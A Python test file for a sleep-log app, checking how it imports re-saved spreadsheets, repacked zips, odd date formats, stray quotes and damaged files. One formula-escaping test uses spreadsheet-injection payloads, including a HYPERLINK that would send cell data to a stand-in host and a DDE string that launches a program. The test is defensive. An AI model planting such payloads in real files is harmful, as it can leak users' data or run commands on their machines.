"""Files as people really have them: saved again by a spreadsheet, packed again, corrected, cut or rounded."""

import zipfile
from datetime import date
from pathlib import Path
from zipfile import ZIP_LZMA, ZipFile

import apsw
import pytest

from rlscompanion.bedtime.ports.files import KeptRow
from rlscompanion.domain.moment import Moment
from rlscompanion.domain.night import Night
from rlscompanion.domain.refusal import Refusal
from rlscompanion.exchange.spreadsheet import escape_formula, unescape_formula
from rlscompanion.storage.health import SqliteHealthRecord
from rlscompanion.storage.sleep_log import SqliteSleepLog
from tests.cases import each_case

from .carried import change_counts, exported_bytes, import_into_log
from .conftest import CLOCK
from .samples import NIGHT, fill

PLEES = "sid,start,stop,rating,comment,wakes"
START = 1767222000
"""Wed 31 Dec 2025, 23:00 UTC."""
ANDROID = "Id,Tz,From,To,Sched,Hours,Rating,Comment,Framerate"


def written(path: Path, *lines: str) -> Path:
    path.write_text("\n".join((*lines, "")), "utf-8", newline="")
    return path


def plees(path: Path, *sleeps: tuple[int, int, str]) -> Path:
    """A file of sleeps: their begin and end (seconds after START) and comment."""
    rows = (
        f'{sid},{(START + begin) * 1000},{(START + end) * 1000},4,"{comment}",1'
        for sid, (begin, end, comment) in enumerate(sleeps, 1)
    )
    return written(path, PLEES, *rows)


def android(path: Path, *records: tuple[int, str, str]) -> Path:
    """A file of sleeps of eight hours: days after the first, zone and comment."""
    lines = []
    for days, zone, comment in records:
        begin = 1700000000 + 86400 * days
        lines += [ANDROID, f'"{begin}000","{zone}","x","x","x","8.000","0.0","{comment}","10000"']
    return written(path, *lines)


def nights(connection: apsw.Connection) -> list[Night]:
    return list(reversed(SqliteSleepLog(connection, CLOCK.now).nights()))


def refused(connection: apsw.Connection, path: Path) -> str:
    with pytest.raises(Refusal) as raised:
        import_into_log(connection, path)
    assert nights(connection) == []
    return str(raised.value)


# --- corrected, grown, rounded ------------------------------------------------------------------------------


def test_a_sleep_that_was_corrected_stays_one(target: apsw.Connection, tmp_path: Path) -> None:
    import_into_log(target, plees(tmp_path / "before.csv", (0, 25200, "first"), (90000, 115200, "")))

    plan = import_into_log(target, plees(tmp_path / "after.csv", (1800, 25200, "first")), KeptRow.THEIRS)

    assert (change_counts(plan)["sleeps"], change_counts(plan)["nights"]) == ((0, 0, 1), (0, 1, 0))
    corrected, other = nights(target)
    [sleep] = corrected.sleeps
    assert sleep.tried_to_sleep is not None
    assert sleep.tried_to_sleep.utc == START + 1800
    assert len(other.sleeps) == 1


def test_sleeps_that_only_follow_each_other_stay_two(target: apsw.Connection, tmp_path: Path) -> None:
    import_into_log(target, plees(tmp_path / "before.csv", (0, 3600, "")))
    import_into_log(target, plees(tmp_path / "after.csv", (3600, 25200, "")), KeptRow.THEIRS)

    assert [len(night.sleeps) for night in nights(target)] == [2]


@pytest.mark.parametrize("ends", [(3900, 8280, 25500), (25500, 3900, 8280), (8280, 25500, 3900)])
def test_of_sleeps_with_one_beginning_the_longest_counts(
    target: apsw.Connection, tmp_path: Path, ends: tuple[int, ...]
) -> None:
    plan = import_into_log(target, plees(tmp_path / "growing.csv", *((0, end, str(end)) for end in ends)))

    [night] = nights(target)
    [sleep] = night.sleeps
    assert sleep.woke_up is not None
    assert (sleep.woke_up.utc, night.notes) == (START + 25500, "25500")
    assert len(plan.refused) == 2


def test_a_file_of_which_no_row_can_be_read_is_refused(target: apsw.Connection, tmp_path: Path) -> None:
    path = written(tmp_path / "x.csv", PLEES, "1,1.76722E+12,1.76725E+12,4,a,1", "2,1,2,3,b,9999")

    said = refused(target, path)

    assert "line 2: start: “1.76722E+12” is not a number of milliseconds. A spreadsheet rounded it" in said
    assert said.endswith("Nothing was changed.")


# --- quotes, tags, zones ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "said", ['said "hi" and slept', 'ends with "hi"', '"', 'one " alone', 'two\n"lines" of it']
)
def test_a_quote_that_was_not_doubled_is_text(target: apsw.Connection, tmp_path: Path, said: str) -> None:
    zone = "Europe/Berlin"
    import_into_log(
        target, android(tmp_path / "x.csv", (0, zone, "plain"), (1, zone, said), (2, zone, "third"))
    )

    assert [night.notes for night in nights(target)] == ["plain", said, "third"]


def test_a_quote_that_ends_a_value_too_soon_is_told(target: apsw.Connection, tmp_path: Path) -> None:
    path = android(tmp_path / "x.csv", (0, "Europe/Berlin", 'said "hi","there" and "slept"'), (1, "UTC", ""))

    plan = import_into_log(target, path)

    assert [str(row) for row in plan.refused] == ["line 2: has 10 values where 9 belong"]
    assert len(nights(target)) == 1


def test_quotes_that_never_end_refuse_the_file(target: apsw.Connection, tmp_path: Path) -> None:
    path = written(tmp_path / "x.csv", ANDROID, '"1700000000000","UTC","x","x" y "x')

    assert "its quotes do not match" in refused(target, path)


def test_a_counted_tag_is_an_amount(target: apsw.Connection, tmp_path: Path) -> None:
    tags = ("#alcohol", "#alcohol_2x", "#alcohol_3x #coffee_2x #sport_2x #late_dinner_2x")
    import_into_log(target, android(tmp_path / "x.csv", *((day, "UTC", tag) for day, tag in enumerate(tags))))

    own = {each.key: each for each in SqliteHealthRecord(target, CLOCK.now).own_factors()}
    said = [
        {own[note.factor].title if note.factor in own else note.factor: note.amount for note in night.factors}
        for night in nights(target)
    ]
    assert said == [
        {"alcohol": None},
        {"alcohol": 2},
        {"alcohol": 3, "caffeine": 2, "exercise": None, "Late dinner": 2},
    ]
    assert [each.unit for each in own.values()] == ["times"]


@pytest.mark.parametrize(
    ("received", "offset"), [("GMT+02:00", 120), ("GMT-3:30", -210), ("UTC+5:45", 345), ("GMT", 0)]
)
def test_an_offset_stands_for_a_zone(
    target: apsw.Connection, tmp_path: Path, received: str, offset: int
) -> None:
    import_into_log(target, android(tmp_path / "x.csv", (0, received, "")))

    [night] = nights(target)
    assert night.sleeps[0].tried_to_sleep == Moment(1700000000, offset)


# --- spreadsheets -------------------------------------------------------------------------------------------

NIGHTS = "Derived: night,Evening,Time zone,Went to bed,Woke up"
LABEL = "Wed 31 Dec 2025 to Thu 1 Jan 2026"


@pytest.mark.parametrize(
    "row",
    [
        f"{LABEL},12/31/2025,UTC,12/31/2025 23:00,1/1/2026 6:00",
        f"{LABEL},31/12/2025,UTC,31/12/2025 23:00,01/01/2026 06:00",
        f"{LABEL},12/31/25,UTC,12/31/25 11:00 PM,1/1/26 6:00 AM",
        f"{LABEL},31-12-2025,UTC,31-12-2025 23:00:00,01-01-2026 06:00:00",
        f"{LABEL},31.12.2025,UTC,31.12.2025 23:00,01.01.2026 06:00",
        f"{LABEL},2025/12/31,UTC,2025/12/31 23:00,2026/1/1 6:00",
        f"{LABEL},12/31/2025 0:00,UTC,2025-12-31 23:00,2026-01-01 06:00",
    ],
)
def test_a_table_saved_by_a_spreadsheet_is_read(target: apsw.Connection, tmp_path: Path, row: str) -> None:
    import_into_log(target, written(tmp_path / "x.csv", NIGHTS, row))

    [night] = nights(target)
    assert night.evening == date(2025, 12, 31)
    assert night.sleeps[0].went_to_bed == Moment(START, 0)
    assert night.sleeps[0].woke_up == Moment(START + 7 * 3600, 0)


@pytest.mark.parametrize(("evening", "bed"), [("2/1/2026", "2/1/2026 23:00"), ("1/2/2026", "1/2/2026 23:00")])
def test_the_weekday_settles_which_number_is_the_month(
    target: apsw.Connection, tmp_path: Path, evening: str, bed: str
) -> None:
    row = f"Fri 2 to Sat 3 Jan 2026,{evening},UTC,{bed},"

    import_into_log(target, written(tmp_path / "x.csv", NIGHTS, row))

    [night] = nights(target)
    assert night.evening == date(2026, 1, 2)
    assert night.sleeps[0].went_to_bed == Moment(START + 2 * 86400, 0)


def test_one_date_settles_all_others(target: apsw.Connection, tmp_path: Path) -> None:
    rows = ("Evening,Time zone", "2/1/2026,UTC", "13/1/2026,UTC")

    import_into_log(target, written(tmp_path / "x.csv", *rows))

    assert [night.evening for night in nights(target)] == [date(2026, 1, 2), date(2026, 1, 13)]


def test_a_date_that_could_be_two_is_refused(target: apsw.Connection, tmp_path: Path) -> None:
    path = written(tmp_path / "x.csv", "Evening,Time zone", "5/5/2026,UTC", "2/1/2026,UTC")

    assert "line 3, column Evening: “2/1/2026” does not show which number is the month" in refused(
        target, path
    )


def test_a_line_that_names_the_delimiter_is_no_heading(target: apsw.Connection, tmp_path: Path) -> None:
    path = written(tmp_path / "x.csv", "\ufeffsep=;", "Evening;Time zone;Notes", "31.12.2025;UTC;a, b")
    import_into_log(target, path)
    assert [night.notes for night in nights(target)] == ["a, b"]

    bad = written(tmp_path / "y.csv", "sep=;", "Evening;Time zone", "31.12.2025;UTC", "x;UTC")
    with pytest.raises(Refusal, match="line 4, column Evening"):
        import_into_log(target, bad)


@each_case(
    "text",
    [
        *('=HYPERLINK("http://x.example/?"&A1,"open")', "=1+1", "-2 pills", "+cmd|' /C calc'!A0", "@SUM(1)"),
        *("'quoted", "'=1+1", "''=1", "-2", "'-2", "  two spaces", "\tx", "", "'", "＝1"),
    ],
)
def test_no_cell_is_a_formula_and_each_comes_back(text: str) -> None:
    shown = escape_formula(text)

    assert unescape_formula(shown) == text
    assert not shown.startswith(("=", "+", "@", "\t", "\r", "-")) or shown == "-2"


def test_notes_that_look_like_formulas_go_out_and_in(
    source: apsw.Connection, target: apsw.Connection, tmp_path: Path
) -> None:
    comments = ("=1+1", "'=1+1", "-2 pills", "'quoted")
    days = [(day * 86400, day * 86400 + 25200, text) for day, text in enumerate(comments)]
    import_into_log(source, plees(tmp_path / "p.csv", *days))
    table = tmp_path / "nights.csv"
    table.write_bytes(exported_bytes(source, ".csv"))

    import_into_log(target, table)

    assert b",=1+1" not in table.read_bytes()
    assert [night.notes for night in nights(target)] == list(comments)


# --- zip files ----------------------------------------------------------------------------------------------


def test_a_package_that_was_packed_again_is_read(
    source: apsw.Connection, target: apsw.Connection, tmp_path: Path
) -> None:
    fill(source)
    package, again = tmp_path / "log.zip", tmp_path / "again.zip"
    package.write_bytes(exported_bytes(source, ".zip"))
    with ZipFile(package) as old, ZipFile(again, "w") as new:
        new.writestr("rls export/", b"")
        new.writestr("rls export/.DS_Store", b"\0\0")
        for name in reversed(old.namelist()):
            new.writestr(f"rls export/{name}", old.read(name))
            new.writestr(f"__MACOSX/rls export/._{name}", b"\0\5\x16\7")

    import_into_log(target, again)

    assert NIGHT in nights(target)


def test_a_zip_of_another_kind_is_refused(target: apsw.Connection, tmp_path: Path) -> None:
    path = tmp_path / "x.zip"
    with ZipFile(path, "w", ZIP_LZMA) as made:
        made.writestr("sleep-export.csv", ANDROID)
    path.write_bytes(path.read_bytes().replace(b"\x05\x00\x5d", b"\x05\x00\xff"))

    assert "an unusual kind of zip file" in refused(target, path)


def test_a_zip_whose_content_is_torn_is_refused(target: apsw.Connection, tmp_path: Path) -> None:
    path = tmp_path / "x.zip"
    with ZipFile(path, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("sleep-export.csv", ANDROID + "\n" + "x" * 500)
    data = bytearray(path.read_bytes())
    data[60:80] = bytes(20)
    path.write_bytes(data)

    assert "is a damaged or unfinished zip file" in refused(target, path)
